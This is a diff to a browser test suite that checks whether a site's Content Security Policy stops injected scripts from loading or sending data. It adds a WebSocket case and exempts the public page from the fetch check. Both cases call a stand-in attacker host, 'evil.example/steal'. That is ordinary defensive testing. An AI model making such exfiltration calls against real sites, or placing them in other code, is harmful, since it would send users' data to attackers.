@@ -21,6 +21,7 @@ const TRUSTED = 'require-trusted-types-for'
 
 const wasOwned = (page: Page) => page.evaluate(() => 'owned' in window)
 
+const WORD = 'a word to another site'
 const attacks: [string, string, () => void][] = [
   [
     'an inline script',
@@ -94,7 +95,18 @@ const attacks: [string, string, () => void][] = [
     }
   ],
   [
-    'a word to another site',
+    'a connection to another site',
+    'connect-src',
+    () => {
+      try {
+        new WebSocket('wss://evil.example/steal').close()
+      } catch {
+        // Some browsers throw as well.
+      }
+    }
+  ],
+  [
+    WORD,
     'connect-src',
     () => {
       void fetch('https://evil.example/steal').catch(() => undefined)
@@ -119,7 +131,9 @@ for (const where of policies)
   base(`on ${where} injected content cannot run, load or send anything`, async ({ page }) => {
     await page.goto(where)
     const isOffice = where.startsWith('/bo9/')
-    for (const [name, directive, act] of attacks)
+    // A public page may fetch recordings from any host, as it may show pictures of any.
+    const refused = where === '/' ? attacks.filter(([name]) => name !== WORD) : attacks
+    for (const [name, directive, act] of refused)
       await base.step(name, async () => {
         await expectRefusal(page, act, isOffice ? [directive, TRUSTED] : [directive])
         expect(await wasOwned(page)).toBe(false)
